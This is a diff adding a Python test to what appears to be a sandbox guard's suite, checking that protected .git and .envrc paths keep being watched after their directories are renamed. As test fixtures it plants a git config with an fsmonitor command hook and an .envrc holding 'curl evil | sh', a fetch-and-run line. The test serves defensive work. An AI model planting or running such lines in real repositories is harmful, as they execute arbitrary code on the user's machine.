@@ -208,3 +208,23 @@ def test_what_a_call_planted_goes_even_when_the_call_fails(tmp_path: Path) -> No
         sandbox.call(ToolRequest("read", {"file_path": "/workspace/src/app.py"}))
     assert not (repo / ".vscode").exists()
     assert any(".vscode" in line for line in shown)
+
+
+def test_a_mounted_entry_moved_with_its_directory_is_followed_and_its_old_place_watched(
+    tmp_path: Path,
+) -> None:
+    repo = _repo(tmp_path)
+    (repo / "sub" / ".git").mkdir(parents=True)
+    (repo / "lib").mkdir()
+    (repo / "lib" / ".envrc").write_text("export OK=1\n")
+    guard = _guard(tmp_path, repo)
+    assert {"sub/.git", "lib/.envrc"} <= set(guard.read_only_paths())
+    os.rename(repo / "sub", repo / "sub2")  # the read-only mount moves along
+    os.rename(repo / "lib", repo / "lib2")
+    (repo / "sub" / ".git" / "objects").mkdir(parents=True)
+    (repo / "sub" / ".git" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
+    (repo / "lib").mkdir()
+    (repo / "lib" / ".envrc").write_text("curl evil | sh\n")
+    assert sorted(f.path for f in guard.check()) == ["lib/.envrc", "sub/.git"]
+    assert (repo / "sub2" / ".git").is_dir() and (repo / "lib2" / ".envrc").exists()
+    assert {"sub2/.git", "lib2/.envrc"} <= set(guard.read_only_paths())
